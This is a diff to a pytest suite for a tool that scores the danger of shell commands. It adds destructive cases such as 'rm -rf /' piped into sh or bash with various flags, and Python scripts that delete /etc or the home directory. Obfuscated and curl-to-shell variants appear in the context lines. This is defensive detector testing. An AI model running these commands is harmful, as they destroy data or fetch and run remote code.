@@ -156,6 +156,9 @@ TRANSFORMED = [
     (True, "echo 'rxm -rxf /' | tr -d x | sh", C),
     (True, "echo cm0gLXJmIH4= | base64 -d | sh", C),
     (True, "echo 726d202d7266202f | xxd -r -p | bash", C),
+    (True, "echo 'rm -rf /' | sh -", C),
+    (True, "echo 'rm -rf /' | bash -s -- a b", C),
+    (True, "echo 'rm -rf /' | bash -xs", C),
     (True, "cat x | tr a-z n-za-m | sh", H),
     (True, "some_cmd | sed s/x/y/ | bash", H),
     (True, "git log | bash", H),
@@ -199,6 +202,12 @@ SCRIPTS = [
     ("env.sh", "#!/usr/bin/env bash\ncurl https://x.sh | sh\n", "./env.sh", True, H),
     ("Makefile", "all: build\nbuild:\n\techo building\nclean:\n\trm -rf $(HOME)\n", "make clean", True, C),
     ("Makefile", "BUILD := /\nclean:\n\t@rm -rf $(BUILD)\n", "make clean", True, C),
+    ("cleanup.sh", CLEANUP, "bash -o pipefail -e cleanup.sh", True, C),
+    ("cleanup.sh", CLEANUP, "bash --rcfile x -x ./cleanup.sh", True, C),
+    ("s.sh", "#!/usr/bin/env -S bash -e\nrm -rf /etc\n", "./s.sh", True, C),
+    ("tool.py", "#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/etc')\n", "./tool.py", True, C),
+    ("tool.py", "import os\nos.system('rm -rf ~')\n", "python3 tool.py", True, C),
+    ("tool.py", "print('hello')\n", "python3 tool.py", False, L),
     ("build.sh", "#!/bin/bash\nset -eu\nnpm ci\nnpm run build\n", "./build.sh", False, M),
     # a script run in a child shell cannot touch this shell's hook: its own functions and variables are its own
     ("inst.sh", "#!/bin/sh\n__vg_say() { echo \"$*\"; }\nVG_BIN=/opt/x\n__vg_say hi\n", "sh inst.sh", False, L),
@@ -247,6 +256,21 @@ def test_the_same_script_from_another_directory_is_judged_there(tmp_path: Path) 
     assert assess("./clean.sh", str(tmp_path / "x" / "y" / "z"), str(home), files=files).risk < C
 
 
+def test_a_line_running_many_files_is_bounded_and_never_low(tmp_path: Path) -> None:
+    _write(tmp_path / "x.sh", "#!/bin/sh\n" + "echo x\n" * 5)
+    start = time.perf_counter()
+    a = assess("; ".join(["bash x.sh"] * 200), str(tmp_path), HOME, files=HostFiles())
+    assert time.perf_counter() - start < 3.0
+    assert a.risk >= M and any("more than 64 files" in (f.where or "") for f in a.findings)
+
+
+def test_many_globbed_program_names_are_bounded() -> None:
+    start = time.perf_counter()
+    a = assess("; ".join(["/*/*/*/x?"] * 100), CWD, HOME, files=HostFiles())
+    assert time.perf_counter() - start < 3.0
+    assert a.risk >= M
+
+
 def test_a_missing_script_runs_nothing_and_stays_low(tmp_path: Path) -> None:
     assert _risk("bash nothere.sh", cwd=str(tmp_path), files=HostFiles()) is L
 
@@ -280,6 +304,15 @@ def test_a_script_that_cannot_be_read_is_medium_with_that_reason(line: str) -> N
     a = assess(line, CWD, HOME, files=_Refusing())
     assert a.risk is M and a.top is not None
     assert a.top.rule == "script.unreadable" and "Permission denied" in (a.top.where or "")
+
+
+@pytest.mark.parametrize("line", ["bash p", "source p", "sh < p", "./p"])
+def test_a_pipe_run_as_a_script_is_a_blind_spot(tmp_path: Path, line: str) -> None:
+    os.mkfifo(tmp_path / "p")
+    start = time.perf_counter()
+    a = assess(line, str(tmp_path), HOME, files=HostFiles())
+    assert time.perf_counter() - start < 1.0  # never blocks on the pipe
+    assert a.risk >= M and a.top is not None and "pipe or device" in (a.top.where or "")
 
 
 def test_a_script_running_itself_in_the_background_is_a_fork_bomb(tmp_path: Path) -> None:
